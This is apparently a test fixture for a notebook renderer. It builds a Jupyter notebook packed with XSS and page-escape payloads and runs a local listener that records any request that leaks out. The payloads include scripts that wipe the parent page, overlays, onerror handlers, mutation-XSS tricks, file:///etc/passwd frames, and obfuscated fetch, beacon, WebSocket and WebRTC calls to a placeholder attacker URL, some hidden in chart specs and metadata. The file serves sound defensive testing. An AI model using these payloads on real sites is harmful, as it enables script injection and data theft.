# Each sample in a line of its own.
# ruff: noqa: E501
"""What a stranger's notebook may display to get out of its place on a page.

`URL` stands for an address of the stranger, and `SAMPLE` for the sample's number.
"""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from socketserver import BaseRequestHandler, ThreadingTCPServer, ThreadingUDPServer
from threading import Thread
from typing import Any

import nbformat

# As nothing in particular, since strict checks refuse calls without types.
V4: Any = nbformat.v4
GONE = "document.documentElement.innerHTML = ''"
COVER = "position:fixed;inset:0;width:9999px;height:9999px;background:red;z-index:99999"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"'
HTML = [
    # What changes, hides or covers the rest of the page.
    f"<script>{GONE}</script>",
    f"<script>parent.{GONE}</script>",
    f"<script>top.{GONE}</script>",
    "<script>document.title = parent.document.title = 'stranger'</script>",
    "<style>body { display: none !important }</style>",
    "<style>.facts, main { opacity: 0 !important }</style><p>styled</p>",
    "<style>:host, :host-context(body) { position: fixed !important; inset: 0 }</style>",
    "<style>* { visibility: hidden !important } pre { display: none }</style>",
    "<style>@media all { .jp-Cell, section { height: 0; overflow: hidden } }</style>",
    "<style>@page { size: 1px } @layer x { body { display: none !important } }</style>",
    f'<div style="{COVER}">covers</div>',
    f'<div style="{COVER};position:absolute;margin:-5000px">covers</div>',
    f'<p style="{COVER};transform:scale(99)">covers</p>',
    f'<script>document.body.style.cssText = "{COVER}"</script>',
    f'<iframe srcdoc="<p>in</p>" style="{COVER}"></iframe>',
    "<script>parent.postMessage({height: 1e12, state: 'failed', words: '<b>'}, '*')"
    "</script>",
    "<script>setInterval(() => parent.postMessage({height: 1e12}, '*'), 5)</script>",
    "<dialog open style='position:fixed;inset:0;width:100%;height:100%'>covers</dialog>",
    "<div popover id=p>x</div><script>document.getElementById('p').showPopover()</script>",
    "<script>document.documentElement.requestFullscreen()</script>",
    # What ends or swallows the page around it.
    "</div></div></div></main></body></html><h1>stranger</h1>",
    "<!-- <div>",
    "<plaintext>",
    "<textarea><select><title>",
    "<template shadowrootmode='closed'><p>in",
    "<table><tr><td><table><svg><style><a title='</style><img src=URL onerror=alert(1)>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL "
    f'onerror="{GONE}"&gt;\'>',
    "<svg><foreignObject><iframe src='URL'></iframe></foreignObject></svg>",
    "<noscript><p title='</noscript><img src=URL onerror=alert(1)>'></noscript>",
    # What runs.
    f'<img src="data:," onerror="{GONE}">',
    f'<details open ontoggle="{GONE}">x</details>',
    "<svg onload=\"fetch('URL'); top.document.title = 'stranger'\"></svg>",
    "<body onload=\"fetch('URL')\" onpageshow=\"fetch('URL')\">",
    "<a href='javascript:alert(SAMPLE)' id=j>j</a><script>j.click()</script>",
    "<a href='java\tscript:alert(SAMPLE)'>j</a><button autofocus onfocus=alert(1)>b</button>",
    f"{SVG}><script>alert(SAMPLE)</script><set attributeName=onmouseover to=alert(1) />"
    "<a xlink:href='javascript:alert(1)'><text>t</text></a></svg>",
    "<script type=module>alert(SAMPLE); await fetch('UR' + 'L'.slice(0))</script>",
    "<iframe src=\"javascript:parent.document.title='stranger'\"></iframe>",
    "<script>confirm(SAMPLE); prompt(SAMPLE); print()</script>",
    # What asks for something.
    "<iframe src='file:///etc/passwd'></iframe>",
    "<iframe srcdoc=\"<iframe src='file:///etc/passwd'></iframe>\"></iframe>",
    "<img src='file:///etc/passwd'><embed src='file:///etc/passwd'>",
    "<img src='URL'>",
    "<img src='data:,' srcset='URL 2x'><picture><source srcset='URL'></picture>",
    "<video poster='URL' src='URL'></video><audio src='URL' autoplay></audio>",
    "<link rel=stylesheet href='URL'>",
    "<link rel=prefetch href='URL'><link rel=preload as=image href='URL'>",
    "<link rel=icon href='URL'><link rel=manifest href='URL'>",
    "<style>@import 'URL'; p { background: url(URL) }</style><p>p</p>",
    "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>p",
    "<p style='background-image: url(URL); list-style: url(URL)'>p</p>",
    "<p style='background: \\75rl(URL)'>p</p>",
    "<object data='URL'></object><embed src='URL'><applet code='URL'></applet>",
    "<object data='data:text/html,<script>parent.document.title=1</script>'></object>",
    "<iframe src='data:text/html,<script>fetch(`URL`)</script>'></iframe>",
    "<iframe srcdoc=\"<script>fetch('UR'+'L'); location='URL'</script>\"></iframe>",
    "<script>fetch(['ht', 'URL'.slice(2)].join(''))</script>",
    "<script>navigator.sendBeacon(['ht', 'URL'.slice(2)].join(''), 'x')</script>",
    "<script>new WebSocket(['ws', 'URL'.slice(4)].join(''))</script>",
    "<script>new EventSource(['ht', 'URL'.slice(2)].join(''))</script>",
    "<script>const x = new XMLHttpRequest(); x.open('GET', ['ht', 'URL'.slice(2)].join(''));"
    " x.send()</script>",
    "<script>new Image().src = ['ht', 'URL'.slice(2)].join('')</script>",
    "<script>import(['ht', 'URL'.slice(2)].join(''))</script>",
    "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('\" + ['ht', "
    "'URL'.slice(2)].join('') + \"')\"])))</script>",
    "<script>const l = document.createElement('link'); l.rel = 'prefetch';"
    " l.href = ['ht', 'URL'.slice(2)].join(''); document.head.append(l)</script>",
    "<script>new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]})"
    ".createDataChannel('x')</script>",
    "<script>const f = document.createElement('iframe'); document.body.append(f);"
    " f.contentWindow.fetch(['ht', 'URL'.slice(2)].join(''));"
    " new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]})</script>",
    # What leads somewhere else.
    "<meta http-equiv=refresh content='0; url=URL'>",
    "<script>document.head.innerHTML = '<meta http-equiv=refresh content=\"0; url=' +"
    " ['ht', 'URL'.slice(2)].join('') + '\">'</script>",
    "<base href='URL' target=_top><a href='x'>relative</a>",
    "<script>location = ['ht', 'URL'.slice(2)].join('')</script>",
    "<script>top.location = ['ht', 'URL'.slice(2)].join('')</script>",
    "<script>history.back(); history.go(-1); window.close(); top.close()</script>",
    "<script>window.open(['ht', 'URL'.slice(2)].join(''))</script>",
    "<a target=_top id=t href='URL'>t</a><script>t.click()</script>",
    "<a download id=d href='data:text/plain,x'>d</a><script>d.click()</script>",
    "<form action='URL' id=f><input name=q value=1></form><script>f.submit()</script>",
    "<form action='URL'><button id=b formaction='URL'>b</button></form>"
    "<script>b.click()</script>",
    "<a href='#' ping='URL' id=g>g</a><script>g.click()</script>",
    # What looks like a part of the page.
    "<figure class=drawn data-kind=html data-needs='' "
    f"data-spec='{json.dumps({'html': f'<script>parent.{GONE}</script>'})}'></figure>",
    "<figure class=drawn data-kind=__proto__ data-needs=x data-spec='{'></figure>",
    "<script type='text/plain' id='library-plotly-js'>alert(1)</script>",
    "<div class='jp-Cell'><div class='jp-RenderedMarkdown'>forged</div></div>",
    "<style id='library-x-css'>body { display: none }</style>",
]
MARKDOWN = [
    '```mermaid\n%%{init: {"themeCSS": "} } body, h1 { display: none } x {",'
    ' "securityLevel": "loose", "fontFamily": "x; } * { display: none } y {"}}%%\n'
    "graph TD; A-->B\n```",
    f"<script>{GONE}</script>\n\n<style>body {{ display: none }}</style>",
    f'<div style="{COVER}">covers</div>',
    "[link](javascript:alert(SAMPLE)) ![picture](URL) <img src=x onerror=alert(1)>",
    "![pasted](attachment:a.svg)",
    '# <img src="URL" onerror=alert(SAMPLE)> </title><script>alert(1)</script>',
    f'```mermaid\ngraph TD; A["<img src=URL onerror={GONE!r}>"]-->B\n'
    'click A href "javascript:alert(1)"\n```',
    "$\\href{javascript:alert(1)}{x}$ <iframe src='file:///etc/passwd'></iframe>",
]


def _bokeh(model: dict[str, Any]) -> str:
    """Return a figure of Bokeh whose model reacts to anything that happens."""
    root = {"type": "object", "name": "Column", "id": "p1", "attributes": {
        "children": [model] if model["name"] == "Div" else [],
        "stylesheets": [model] if "Style" in model["name"] else [],
        "js_event_callbacks": {"type": "map", "entries": [["document_ready", [model]]]},
        "js_property_callbacks": {"type": "map", "entries": [["change:x", [model]]]},
    }}  # fmt: skip
    documents = {"d": {"version": "3.9.2", "title": "", "roots": [root]}}
    items = [{"docid": "d", "roots": {"p1": "e"}, "root_ids": ["p1"]}]
    return (
        "<div id=e></div><script>const docs_json = "
        f"{json.dumps(documents)}; const render_items = {json.dumps(items)};</script>"
    )


DATA: list[dict[str, Any]] = [
    {"application/javascript": GONE + "; fetch(['ht', 'URL'.slice(2)].join(''))"},
    {"image/svg+xml": f"{SVG} onload='alert(1)'><image href='URL'/></svg>"},
    {"image/svg+xml": f"{SVG}><script>alert(SAMPLE)</script></svg>"},
    {"image/png": '"><script>alert(1)</script><img src="URL'},
    {"image/gif": 'AA" onerror="alert(1)'},
    {"application/pdf": '"><script>alert(1)</script>'},
    {"text/latex": "$x$<script>alert(1)</script>"},
    {"text/markdown": f"<script>{GONE}</script><style>*{{display:none}}</style>"},
    {"text/markdown": "&lt;span&gt;&lt;img src=URL onerror=alert(1)&gt;"},
    {"text/plain": "\x1b[31m<script>alert(1)</script>"},
    {'x/y"><script>alert(1)</script>': "<b>"},
    {"application/json": {"<script>": "<img src=URL onerror=alert(1)>"}},
    {"text/html": '<marimo-callout-output data-html="&lt;img src=URL onerror=alert(1)'
     '&gt;" data-title="<script>alert(1)</script>"></marimo-callout-output>'},
    {"text/html": "<marimo-ui-element><script>alert(1)</script></marimo-ui-element>"},
    {"application/vnd.plotly.v1+json": {
        "data": [{"y": [1], "text": "<a href='javascript:alert(1)'>x</a>"}],
        "layout": {"title": {"text": "<img src=URL onerror=alert(1)>"},
                   "images": [{"source": "data:image/svg+xml,<svg onload='alert(1)'/>"}]},
    }},
    {"application/vnd.vegalite.v6+json": {
        "$schema": "https://vega.github.io/schema/vega-lite/v6.json", "mark": "point",
        "data": {"values": [{"u": "javascript:alert(1)"}]},
        "encoding": {"href": {"field": "u"}},
    }},
    {"application/vnd.vegalite.v6+json": {
        "$schema": "https://vega.github.io/schema/vega-lite/v6.json", "mark": "point",
        "data": {"values": [{"x": 1}]},
        "params": [{"name": "p", "value": 1, "bind": {"input": "range", "element": "h1"}}],
        "usermeta": {"embedOptions": {
            "defaultStyle": "body { display: none }", "bind": "h1", "actions": True,
            "patch": "URL", "config": "URL", "editorUrl": "URL"}},
    }},
    {"application/vnd.plotly.v1+json": {
        "data": [{"y": [1], "hovertemplate": "<style>*{display:none}</style>"}],
        "layout": {"annotations": [{"text": "<a href='URL' target='_top'>x</a>"}],
                   "width": 90000, "height": 300},
        "config": {"plotlyServerURL": "URL", "showEditInChartStudio": True},
    }},
    {"text/html": _bokeh({"type": "object", "name": "CustomJS", "id": "p9",
                          "attributes": {"code": f"top.{GONE}; alert(1)"}})},
    {"text/html": _bokeh({"type": "object", "name": "GlobalInlineStyleSheet", "id": "p9",
                          "attributes": {"css": "body { display: none }"}})},
    {"text/html": _bokeh({"type": "object", "name": "Div", "id": "p9", "attributes": {
        "text": f"<img src=URL onerror='{GONE}'><style>*{{display:none}}</style>"
                "<meta http-equiv=refresh content='0; url=URL'>"}})},
]  # fmt: skip
COUNT = len(HTML) + len(MARKDOWN) + len(DATA) + 2


def filled(sample: Any, number: int, url: str, udp: str) -> Any:
    """Return a sample with the stranger's addresses."""
    text = json.dumps(sample)
    words = {"URL.create": "U_R_L", "URL": f"{url}/{number}", "U_R_L": "URL.create"}
    for name, value in {**words, "UDP": udp, "SAMPLE": str(number)}.items():
        text = text.replace(name, value)
    return json.loads(text)


def notebook(url: str, udp: str, *, mild: bool = False) -> Any:
    """Return a notebook that displays each sample, and then says its number.

    Args:
        url: The stranger's address.
        udp: Host and port where the stranger waits for datagrams.
        mild: Whether it displays something else in place of the samples.
    """
    cells = [V4.new_markdown_cell("# A study")]
    shown: list[dict[str, Any]] = [*({"text/html": it} for it in HTML), *DATA]
    for number, it in enumerate([*shown, *MARKDOWN], 1):
        sample = filled(it, number, url, udp)
        outputs = []
        if isinstance(sample, dict):
            data = {"text/plain": "mild"} if mild else sample
            sizes = {kind: {"width": "1 style=position:fixed"} for kind in data}
            outputs = [V4.new_output("display_data", data=data, metadata=sizes)]
        else:
            cells.append(V4.new_markdown_cell("mild" if mild else sample))
        text = f"{'mild' if mild else 'sample'} {number}.\n"
        outputs.append(V4.new_output("stream", name="stdout", text=text))
        cells.append(V4.new_code_cell(f"show({number})", outputs=outputs))
    cells.append(V4.new_raw_cell("<script>alert(1)</script>"))
    cells[-1].metadata["raw_mimetype"] = "text/html"
    cells[1].metadata["tags"] = ['"><script>alert(1)</script>']
    made = V4.new_notebook(cells=cells)
    owner = '@ann<img src=x onerror="alert(1)">'
    made.metadata |= {
        "made_from": ["Made now from <script>alert(1)</script>"],
        "notice": "<script>alert(1)</script>",
        "facts": {"owners": ["@bob", owner], "known_to": [], "commit": "abc"},
    }
    return made


class Stranger(BaseRequestHandler):
    """Notes what it is told.

    Where a frame leads itself away, Chromium makes a connection before it asks the
    policy, and then says nothing: that does not count.
    """

    def handle(self) -> None:
        """Note a call."""
        told = self.request
        words = told[0] if isinstance(told, tuple) else told.recv(200)
        if words:
            self.server.met.append(words.decode("latin-1"))  # type: ignore[attr-defined]


@contextmanager
def waiting() -> Iterator[tuple[str, str, list[str]]]:
    """Be the stranger's computer: its address for requests and for datagrams."""
    met: list[str] = []
    with (
        ThreadingTCPServer(("127.0.0.1", 0), Stranger) as tcp,
        ThreadingUDPServer(("127.0.0.1", 0), Stranger) as udp,
    ):
        servers: tuple[Any, ...] = (tcp, udp)
        for server in servers:
            server.met = met
            server.daemon_threads = True
            Thread(target=server.serve_forever, daemon=True).start()
        ports = [server.server_address[1] for server in servers]
        yield f"http://127.0.0.1:{ports[0]}", f"127.0.0.1:{ports[1]}", met
        tcp.shutdown()
        udp.shutdown()
